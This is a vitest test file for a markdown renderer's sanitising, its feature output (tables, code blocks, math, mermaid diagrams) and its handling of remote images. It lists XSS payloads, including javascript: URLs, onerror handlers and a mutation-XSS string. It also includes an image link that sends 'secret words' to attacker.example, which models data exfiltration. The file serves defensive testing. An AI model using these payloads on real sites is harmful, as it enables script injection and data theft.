import { describe, expect, it } from 'vitest'
import { renderMarkdown, setImageHosts } from './markdown'

/** Everything that could run script once the HTML is in the page. */
function executableBits(html: string): string[] {
  const host = document.createElement('div')
  host.innerHTML = html
  const found: string[] = []
  for (const el of host.querySelectorAll('*')) {
    if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'STYLE', 'FORM'].includes(el.tagName))
      found.push(el.tagName)
    for (const attr of el.attributes) {
      if (attr.name.startsWith('on')) found.push(`${el.tagName}@${attr.name}`)
      if (
        /^\s*(javascript|vbscript|data:text\/html)/i.test(attr.value) &&
        ['href', 'src', 'xlink:href', 'action'].includes(attr.name)
      ) {
        found.push(`${el.tagName}@${attr.name}=${attr.value}`)
      }
    }
  }
  return found
}

const payloads = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '![x](javascript:alert(1))',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '```html\n<script>alert(1)</script>\n```',
  '$\\href{javascript:alert(1)}{x}$',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '<style>body{display:none}</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
]

describe('renderMarkdown sanitising', () => {
  it.each(payloads)('leaves nothing executable for %s', (payload) => {
    expect(executableBits(renderMarkdown(payload))).toEqual([])
    expect(executableBits(renderMarkdown(`text before\n\n${payload}\n\ntext after`))).toEqual([])
  })

  it('shows raw HTML as text instead of dropping it', () => {
    const html = renderMarkdown('<img src=x onerror=alert(1)>')
    expect(html).toContain('&lt;img')
  })
})

describe('renderMarkdown features', () => {
  it('renders tables, lists and links that open in a new tab', () => {
    const html = renderMarkdown(
      '| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- [site](https://example.com)',
    )
    expect(html).toContain('<table>')
    expect(html).toContain('<li>one</li>')
    expect(html).toMatch(
      /<a href="https:\/\/example.com" target="_blank" rel="noopener noreferrer">/,
    )
  })

  it('highlights code with a language label and a copy button', () => {
    const html = renderMarkdown('```python\nprint("hi")\n```', { copyLabel: 'Copy' })
    expect(html).toContain('class="code-block-lang">python<')
    expect(html).toContain('data-copy-code')
    expect(html).toContain('hljs-built_in')
  })

  it('renders KaTeX math', () => {
    expect(renderMarkdown('Euler: $e^{i\\pi}+1=0$')).toContain('class="katex"')
    expect(renderMarkdown('$$\n\\int_0^1 x\\,dx\n$$')).toContain('katex-display')
  })

  it('turns a mermaid fence into a diagram only once it is closed', () => {
    const open = renderMarkdown('```mermaid\ngraph TD\nA-->B')
    expect(open).not.toContain('mermaid-block')
    expect(open).toContain('code-block')
    const closed = renderMarkdown('```mermaid\ngraph TD\nA-->B\n```\n')
    expect(closed).toContain('class="mermaid-block"')
    expect(closed).toContain(`data-mermaid="${encodeURIComponent('graph TD\nA-->B\n')}"`)
  })
})

describe('remote images', () => {
  it('never load on render: they become links naming their host', () => {
    setImageHosts([])
    const html = renderMarkdown('![chart](https://attacker.example/c.png?d=secret%20words)')
    const host = document.createElement('div')
    host.innerHTML = html
    expect(host.querySelector('img')).toBeNull()
    const link = host.querySelector('a.remote-image')!
    expect(link.getAttribute('href')).toBe('https://attacker.example/c.png?d=secret%20words')
    expect(link.getAttribute('target')).toBe('_blank')
    expect(link.getAttribute('rel')).toBe('noopener noreferrer')
    expect(link.textContent).toBe('chart (attacker.example)')
  })

  it('load from an allowed host and as inline data', () => {
    setImageHosts(['images.example.com'])
    const host = document.createElement('div')
    host.innerHTML = renderMarkdown(
      '![a](https://images.example.com/a.png) ![b](data:image/png;base64,AAAA) ![c](http://images.example.com/c.png) ![d](/api/files/x)',
    )
    const sources = [...host.querySelectorAll('img')].map((img) => img.getAttribute('src'))
    expect(sources).toEqual(['https://images.example.com/a.png', 'data:image/png;base64,AAAA'])
    expect(host.querySelectorAll('a.remote-image')).toHaveLength(2)
    expect(host.querySelector('img')!.getAttribute('referrerpolicy')).toBe('no-referrer')
    setImageHosts([])
  })
})
